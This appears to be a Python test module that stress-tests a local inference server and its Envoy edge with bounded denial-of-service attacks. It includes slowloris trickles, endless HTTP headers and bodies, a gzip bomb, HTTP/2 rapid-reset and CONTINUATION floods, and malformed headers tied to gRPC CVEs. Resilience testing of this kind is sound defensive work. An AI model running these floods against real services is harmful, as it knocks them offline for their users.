"""The attacks. Each is bounded in count and time, and takes a victim and the ground that its
connections stand on; when its function returns they are still open, and the tests look at the
server over them before the ground is given up."""

import contextlib
import dataclasses
import functools
import random
import socket
import struct
import threading
import time
import zlib
from concurrent.futures import ThreadPoolExecutor

import api
import h2_frames
from edge_server import GENERATE, MIB, PORTS, STATUS, counts

SCORE_STREAM = "/olmoe.v1.InferenceService/ScoreStream"
TOKENIZE = "/olmoe.v1.InferenceService/Tokenize"
PUT_CALIBRATION = "/olmoe.v1.RoutingAdminService/PutCalibration"
GRPC_PORTS = ("listen", "admin")
UNIMPLEMENTED = 12
ATTACKER = "127.0.0.2"
LONGEST_S = 20  # of one attack's own work
EXPECTED = (OSError, TimeoutError)  # what the server may do to an attacker


class Ground:
    """The connections and threads of one attack. Thread-safe."""

    def __init__(self, victim):
        self.victim = victim
        self.stop = threading.Event()
        self._lock = threading.Lock()
        self._sockets = []
        self._threads = []
        self.refused = 0

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.stop.set()
        for sock in self._sockets:
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)
        for thread in self._threads:
            thread.join()
        for sock in self._sockets:
            sock.close()

    def open(self, port, source=ATTACKER, **options):
        """A connection that stays until the ground is given up; None where the server has none."""
        try:
            sock = self.victim.connect(port, source, **options)
        except EXPECTED:
            with self._lock:
                self.refused += 1
            return None
        with self._lock:
            self._sockets.append(sock)
        return sock

    def open_many(self, count, port, source=ATTACKER, **options):
        """Those that the server lets in: at most `count`, and within some seconds."""
        end = time.monotonic() + LONGEST_S / 4
        found = []
        for _ in range(count):
            if time.monotonic() < end:
                found.append(self.open(port, source, **options))
        return [sock for sock in found if sock is not None]

    def http2(self, port, source=ATTACKER, *, receive_buffer=None, **options):
        """An HTTP/2 client; None where the server has no connection."""
        sock = self.open(port, source, receive_buffer=receive_buffer)
        if sock is None:
            return None
        with contextlib.suppress(*EXPECTED):
            return h2_frames.Connection(sock, **options)
        return None

    def background(self, work, *arguments):
        """Goes on until the ground is given up; `work` looks at self.stop."""
        def run():
            with contextlib.suppress(*EXPECTED):
                work(*arguments)
        thread = threading.Thread(target=run)
        self._threads.append(thread)
        thread.start()

    def at_once(self, count, work, threads=32):
        """work(0), ... work(count - 1), and what they return; None for what the server refused."""
        def run(number):
            with contextlib.suppress(*EXPECTED):
                return work(number)
            return None
        with ThreadPoolExecutor(min(count, threads)) as pool:
            return list(pool.map(run, range(count)))

    def trickle(self, socks, pieces, every_s):
        """Sends the next piece to each of them, again and again."""
        def run():
            alive = list(socks)
            for piece in pieces:
                for sock in list(alive):
                    try:
                        sock.sendall(piece)
                    except EXPECTED:
                        alive.remove(sock)
                if self.stop.wait(every_s):
                    return
        self.background(run)


@dataclasses.dataclass(frozen=True)
class Attack:
    """`during`: what must hold while its connections are open: "health" (/healthz in time),
    "served" (ordinary clients of another address, at once), or both. Alive, memory, and everything
    afterwards: always."""
    name: str
    run: object
    during: tuple = ("health", "served")
    few_files: bool = False  # also at nofile 256
    tls: bool = False  # also with TLS
    patience_s: float = 0  # of the ordinary clients: they may have to ask again for so long
    edge: bool = True  # also behind Envoy
    bare: bool = True  # also without


ATTACKS = []


def attack(**options):
    def register(function):
        ATTACKS.append(Attack(function.__name__, function, **options))
        return function
    return register


# ---- connections, on all ports at once


@attack(few_files=True, tls=True, during=())
def connection_storm(_victim, ground):
    """Short connections, 24 at a time to each port from each of 8 addresses, half of them reset."""
    rounds = counts(20, 200)
    end = time.monotonic() + counts(LONGEST_S / 4, 2 * LONGEST_S)

    def storm(number):
        for _ in range(rounds):
            if time.monotonic() > end:
                return
            socks = []
            for port in PORTS:
                for _ in range(24):
                    with contextlib.suppress(*EXPECTED):
                        socks.append(ground.victim.connect(port, f"127.0.0.{number + 2}",
                                                           encrypted=False, timeout_s=2))
            for at, sock in enumerate(socks):
                if at % 2:
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                sock.close()
    ground.at_once(8, storm)


@attack(few_files=True, tls=True, edge=False)
def idle_connections_of_one_address(victim, ground):
    """More than there are descriptors, and nothing on them."""
    for port in PORTS:
        ground.open_many(victim.setup.nofile // 2, port, encrypted=False, timeout_s=1)


@attack(few_files=True, edge=False, during=("health",))
def idle_connections_of_many_addresses(victim, ground):
    end = time.monotonic() + LONGEST_S / 2
    for number in range(victim.setup.nofile // 8):
        for port in PORTS:
            if time.monotonic() < end:
                ground.open_many(4, port, f"127.0.1.{number % 250 + 1}", encrypted=False,
                                 timeout_s=1)


@attack(edge=True, bare=False)
def idle_connections_at_the_edge(_victim, ground):
    for port, count in (("listen", 300), ("admin", 80), ("http", 300)):
        ground.open_many(count, port, encrypted=False, timeout_s=2)


@attack(tls=True)
def garbage(_victim, ground):
    """Random bytes."""
    generator = random.Random(1)

    def send(number):
        sock = ground.open(PORTS[number % 3], encrypted=False)
        if sock is not None:
            sock.sendall(generator.randbytes(4096))
    ground.at_once(120, send)


@attack(tls=True)
def half_handshakes(victim, ground):
    """The beginning of a ClientHello, or of HTTP/2's preface, and of a request."""
    hello = bytes.fromhex("1603010200010001fc0303") + bytes(20)
    for port in PORTS:
        beginning = (b"GET /healthz HT" if port == "http" else
                     hello if victim.setup.tls else h2_frames.PREFACE[:11])
        for sock in ground.open_many(25, port, encrypted=False):
            with contextlib.suppress(*EXPECTED):
                sock.sendall(beginning)


# ---- HTTP


def _endless(name, opening, unit):
    """An attack that sends `unit` until the server has enough, at most 24 MB on 20 connections;
    half of them POST what the others GET."""
    pieces = [unit * (MIB // len(unit))] * 24

    def send(ground, number):
        sock = ground.open("http", timeout_s=2)
        if sock is None:
            return
        sock.sendall((b"POST" if number % 2 else b"GET") + opening)
        for piece in pieces:
            sock.sendall(piece)
            if h2_frames.readable(sock, 0):
                return  # an answer, or the end

    def run(_victim, ground):
        ground.at_once(20, lambda number: send(ground, number))
    run.__name__ = f"http_endless_{name}"
    attack(edge=False)(run)


_HEADER = b" /healthz HTTP/1.1\r\nHost: a\r\n"
_CHUNKED = _HEADER + b"Transfer-Encoding: chunked\r\n\r\n"
_endless("url", b" /", b"a")
_endless("header_name", _HEADER + b"x", b"x")
_endless("header_line", _HEADER + b"x: ", b"x")
_endless("headers", _HEADER, b"xy: z\r\n")
_endless("chunk_size", _CHUNKED, b"0")
_endless("chunk_extension", _CHUNKED + b"1;", b"e")
_endless("extensions_of_tiny_chunks", _CHUNKED, b"1;" + b"e" * 250 + b"\r\na\r\n")
_endless("chunked_body", _CHUNKED, b"10000\r\n" + b"b" * 65536 + b"\r\n")
_endless("body_without_length", _HEADER + b"Connection: close\r\n\r\n", b"b")
_endless("body", _HEADER + b"Content-Length: 100000000000\r\n\r\n", b"b")
_endless("trailers", _CHUNKED + b"1\r\na\r\n0\r\n", b"xy: z\r\n")


@attack(edge=False)
def http_a_byte_a_second(_victim, ground):
    socks = ground.open_many(counts(100, 300), "http")
    request = b"GET /healthz HTTP/1.1\r\nHost: abcdefgh"
    ground.trickle(socks, [bytes([byte]) for byte in request], 0.5)
    ground.stop.wait(1)


@attack(edge=False)
def http_a_line_every_two_seconds(_victim, ground):
    socks = ground.open_many(counts(100, 300), "http")
    ground.trickle(socks, [b"GET / HTTP/1.1\r\n", *[b"x: y\r\n"] * 60], 2)
    ground.stop.wait(1)


@attack(edge=False)
def http_silent(_victim, ground):
    ground.open_many(counts(200, 400), "http")


def _unread_requests(ground, connections, request, count):
    def send(_):
        sock = ground.open("http", receive_buffer=4096, timeout_s=1)
        if sock is not None:
            for _ in range(count // 50):
                sock.sendall(request * 50)
    ground.at_once(connections, send)


@attack(edge=False)
def http_unread_answers(_victim, ground):
    """The largest answer, asked for again and again and never read."""
    _unread_requests(ground, 40, b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n", 1000)


@attack(edge=False)
def http_unread_pipelining(_victim, ground):
    _unread_requests(ground, 40, b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n", 50_000)


@attack(edge=False)
def http_everything_at_once(victim, ground):
    """400 connections: silent, half-sent, trickling, unread."""
    ground.trickle(ground.open_many(100, "http"),
                   [b"GET / HTTP/1.1\r\n", *[b"x: y\r\n"] * 60], 0.5)
    ground.open_many(100, "http")
    half = ground.open_many(100, "http")
    for sock in half:
        with contextlib.suppress(*EXPECTED):
            sock.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nx: ")
    http_unread_answers(victim, ground)
    http_unread_pipelining(victim, ground)


# ---- gRPC


def _message(request):
    return h2_frames.grpc_message(request.SerializeToString())


def _deadline(seconds=LONGEST_S / 3):
    """For what may wait in vain, because the server lets nobody send who has no turn."""
    return time.monotonic() + seconds


@functools.cache
def _bomb():
    """200 MB of one letter in 200 KB: a TokenizeRequest, compressed by gzip."""
    size = 200_000_000
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [packer.compress(b"\x0a" + h2_frames.varint(size))]
    block = b"a" * 1_000_000
    parts += [packer.compress(block) for _ in range(size // len(block))]
    return b"".join([*parts, packer.flush()])


@attack(tls=True)
def grpc_gzip_bombs(_victim, ground):
    """Compressed requests are refused."""
    body = h2_frames.grpc_message(_bomb(), compressed=True)

    def send(_):
        client = ground.http2("listen")
        stream = client.open(TOKENIZE, ("grpc-encoding", "gzip"))
        with contextlib.suppress(h2_frames.Closed):
            client.send_body(stream, body, _deadline(LONGEST_S))
        return client.finish(stream, _deadline(LONGEST_S)).status
    statuses = ground.at_once(8, send)
    assert statuses == [UNIMPLEMENTED] * 8, statuses


def _large_requests(ground, part, finish):
    """180 requests of 7 MB, ten on each of 18 connections, up to `part` of each; then the rest."""
    body = _message(api.inference.GenerateRequest(request_id="x" * 7_000_000))
    first = body[:int(len(body) * part) - 1]

    def send(_):
        client = ground.http2("listen")
        if client is None:
            return 0
        streams = [client.open(GENERATE) for _ in range(10)]
        end = _deadline()
        for stream in streams:
            client.send_body(stream, first, end, end=False)
        if finish:
            for stream in streams:
                client.send_body(stream, body[len(first):], end)
        return sum(client.stream(stream).closed for stream in streams)
    print("refused:", sum(filter(None, ground.at_once(18, send))), "of 180")


@attack()
def grpc_requests_half_sent(_victim, ground):
    _large_requests(ground, 0.5, finish=False)


@attack()
def grpc_requests_of_7_mb(_victim, ground):
    _large_requests(ground, 1, finish=True)


@attack()
def grpc_tokenize_16_mib(_victim, ground):
    """The largest text, several times at once; nobody waits for the end of it."""
    text = "the little dog was happy. " * (16 * MIB // 26)
    body = _message(api.inference.TokenizeRequest(text=text[:16 * MIB - 64]))

    def send(_):
        client = ground.http2("listen", window=h2_frames.HUGE_WINDOW)
        stream = client.open(TOKENIZE)
        end = time.monotonic() + LONGEST_S / 2
        client.send_body(stream, body, end)
        return client.finish(stream, end).status
    print("status:", ground.at_once(8, send))


def _traced(tokens):
    """A request whose reply has 5 KB a token: logits of 64 experts in 16 layers, and more."""
    request = api.tokens_request([1], tokens, logprobs=20)
    request.trace.CopyFrom(api.inference.TraceOptions(experts=True, weights=True, logits=True))
    return request


def _tokenized(reply_bytes):
    """A request that is cheap to answer, and whose reply is ten times as large."""
    return api.inference.TokenizeRequest(text="!?,." * (reply_bytes // 38))


def _scored(tokens):
    request = api.inference.ScoreRequest(trace=api.inference.TraceOptions(logits=True))
    item = request.items.add()
    item.context_tokens.ids.append(1)
    item.continuation_tokens.ids.extend([2] * (tokens - 1))
    return request


def _wait_until_computed(victim):
    """Until the server takes no processor time to speak of."""
    end = _deadline(LONGEST_S)
    before = victim.cpu_seconds()
    while time.monotonic() < end:
        time.sleep(0.5)
        victim.check_alive()
        now = victim.cpu_seconds()
        if now - before < 0.05:
            return
        before = now


def _unread_answers(victim, ground, connections, path, requests):
    """Asks on each connection, grants huge windows and does not read the socket; until all is
    computed."""
    bodies = [_message(request) for request in requests]

    def ask(_):
        client = ground.http2("listen", window=h2_frames.HUGE_WINDOW, receive_buffer=4096)
        end = _deadline()
        streams = [client.open(path) for _ in bodies]
        for stream, body in zip(streams, bodies, strict=True):
            client.send_body(stream, body, end)
    ground.at_once(connections, ask)
    _wait_until_computed(victim)


@attack(tls=True)
def grpc_traced_answers_unread(victim, ground):
    """120 of 2.5 MB."""
    _unread_answers(victim, ground, 6, GENERATE, [_traced(500)] * 20)


@attack()
def grpc_answers_of_16_mb_unread(victim, ground):
    _unread_answers(victim, ground, 6, TOKENIZE, [_tokenized(16 * MIB)] * 5)


@attack()
def grpc_answers_of_2_mb_unread(victim, ground):
    """400 of them."""
    _unread_answers(victim, ground, 8, TOKENIZE, [_tokenized(2 * MIB)] * 50)


@attack()
def grpc_score_stream_unread(victim, ground):
    """Four streams of 500 requests each, whose answers of 60 KB nobody reads."""
    body = _message(api.inference.ScoreStreamRequest(request=_scored(16)))

    def ask(_):
        client = ground.http2("listen", window=h2_frames.HUGE_WINDOW, receive_buffer=4096)
        stream = client.open(SCORE_STREAM)
        end = time.monotonic() + LONGEST_S / 4
        for _ in range(counts(500, 2000)):
            client.send_body(stream, body, end, end=False)
    ground.at_once(4, ask)
    _wait_until_computed(victim)


@attack()
def grpc_large_calibrations(_victim, ground):
    """Forty messages of 15 MB at a time on the admin port, all but their last byte."""
    request = api.admin.PutCalibrationRequest(calibration_id="x" * 15_000_000)
    body = _message(request)

    def send(_):
        client = ground.http2("admin")
        end = time.monotonic() + LONGEST_S / 2
        for _ in range(5):
            client.send_body(client.open(PUT_CALIBRATION), body[:-1], end, end=False)
    ground.at_once(8, send)


@attack(tls=True, patience_s=5)
def silent_and_slow_on_all_ports(_victim, ground):
    """Behind the preface nothing; behind headers nothing; a byte of a message every half second."""
    ground.open_many(50, "http")
    ground.trickle(ground.open_many(50, "http"),
                   [b"GET / HTTP/1.1\r\n", *[b"x: y\r\n"] * 60], 0.5)
    trickling = []
    for port, path in (("listen", GENERATE), ("admin", STATUS)):
        for _ in range(10):
            ground.http2(port)
        for _ in range(4):
            client = ground.http2(port)
            with contextlib.suppress(*EXPECTED):
                for _ in range(50):
                    client.open(path)
        for _ in range(10):
            client = ground.http2(port)
            if client is not None:
                with contextlib.suppress(*EXPECTED):
                    client.open(path)
                    trickling.append(client.sock)
    byte = h2_frames.frame(h2_frames.DATA, 0, 1, b"\0")
    ground.trickle(trickling, [byte] * 60, 0.5)
    ground.stop.wait(1)


@attack()
def grpc_one_connection_fills_the_queue(_victim, ground):
    """As many long requests as it may have, and another for each that is over."""
    body = _message(api.tokens_request([1], 100))
    client = ground.http2("listen")
    full = threading.Event()

    def fill():
        open_streams = []
        opened = 0
        while not ground.stop.is_set() and opened < 20_000:
            while len(open_streams) < (90 if ground.victim.setup.edge else 600):
                stream = client.open(GENERATE)
                client.send_body(stream, body, _deadline())
                open_streams.append(stream)
                opened += 1
            full.set()
            with contextlib.suppress(TimeoutError):
                client.pump(time.monotonic() + 0.1)
            open_streams = [stream for stream in open_streams if not client.stream(stream).closed]
    ground.background(fill)
    full.wait(LONGEST_S)
    ground.stop.wait(0.5)


@attack(tls=True)
def grpc_cancel_storm(_victim, ground):
    """2,000 requests, each reset when it has begun; as a client with a habit, not as a flood."""
    body = _message(api.tokens_request([1], 400))

    def storm(_):
        client = ground.http2("listen")
        for number in range(counts(250, 2500)):
            stream = client.open(GENERATE)
            client.send_body(stream, body, _deadline())
            client.send(h2_frames.reset(stream))
            if number % 25 == 0:
                time.sleep(0.02)
                client.pump(None)
    ground.at_once(8, storm)


# ---- what gRPC 1.51 cannot bound: the edge does


@attack(bare=False)
def continuation_flood(_victim, ground):
    """300 MB of headers in blocks that do not end, on both ports; and names of 1 GB."""
    headers = h2_frames.encode(h2_frames.grpc_fields(GENERATE))
    more = h2_frames.encode([(f"x-{number}", "y" * 1000) for number in range(15)])
    endless_name = b"\0" + h2_frames.string_length(1 << 30)

    def flood(number):
        begin, block = (headers, more) if number < 8 else (headers + endless_name, b"x" * 16_000)
        piece = h2_frames.frame(h2_frames.CONTINUATION, 0, 1, block) * 64
        client = ground.http2(GRPC_PORTS[number % 2])
        client.send(h2_frames.frame(h2_frames.HEADERS, 0, 1, begin))
        end = time.monotonic() + LONGEST_S / 4
        for _ in range(300 * MIB // 8 // len(piece)):
            if time.monotonic() < end:
                client.send(piece)
    ground.at_once(10, flood)


@attack(bare=False, tls=True, during=("health",))
def rapid_resets(_victim, ground):
    """Headers and a reset, as fast as the network takes them; a new connection where one ends."""
    headers = h2_frames.encode(h2_frames.grpc_fields(GENERATE))
    end = time.monotonic() + counts(5, 30)

    def flood(number):
        while time.monotonic() < end:
            with (contextlib.suppress(*EXPECTED),
                  ground.victim.connect(GRPC_PORTS[number % 2], ATTACKER) as sock):
                client = h2_frames.Connection(sock)
                for first in range(1, 100_000, 200):
                    client.send(b"".join(
                        h2_frames.frame(h2_frames.HEADERS, 5, stream, headers) +
                        h2_frames.reset(stream) for stream in range(first, first + 200, 2)))
                    client.pump(None)
    ground.at_once(8, flood)


@attack(bare=False)
def streams_before_settings_are_acknowledged(_victim, ground):
    """10 x 4,000, which MAX_CONCURRENT_STREAMS does not hold back yet."""
    headers = h2_frames.encode(h2_frames.grpc_fields(GENERATE))

    def flood(number):
        client = ground.http2(GRPC_PORTS[number % 2], acknowledges=False)
        client.send(b"".join(h2_frames.frame(h2_frames.HEADERS, 4, stream, headers)
                             for stream in range(1, 8000, 2)))
    ground.at_once(10, flood)


@attack(bare=False)
def headers_that_grpc_does_not_like(_victim, ground):
    """Those of CVE-2023-1428 (a bad te, :scheme, grpclb_client_stats beside more than gRPC takes),
    and binary metadata that is not base64 (CVE-2023-32732)."""
    filler = [(f"x-{number}", "y" * 1000) for number in range(30)]
    bad = [("te", "x"), (":scheme", "x"), ("grpclb_client_stats", "x"), ("x-bin", "=,=")]

    def send(number):
        extra = bad[number % 4]
        fields = [field for field in h2_frames.grpc_fields(GENERATE) if field[0] != extra[0]]
        fields = [extra, *fields] if extra[0].startswith(":") else [*fields, extra]
        for more in (0, 8, 11, 13, 15, 20, 30):
            client = ground.http2(GRPC_PORTS[number // 4 % 2])
            block = h2_frames.encode(fields + filler[:more])
            pieces = [block[at:at + 8000] for at in range(0, len(block), 8000)]
            with contextlib.suppress(*EXPECTED):
                client.send(b"".join(h2_frames.frame(
                    h2_frames.CONTINUATION if at else h2_frames.HEADERS,
                    h2_frames.END_HEADERS if at + 1 == len(pieces) else 0, 1, piece)
                    for at, piece in enumerate(pieces)))
                end = time.monotonic() + 0.3
                while True:
                    client.pump(end)
    ground.at_once(16, send)
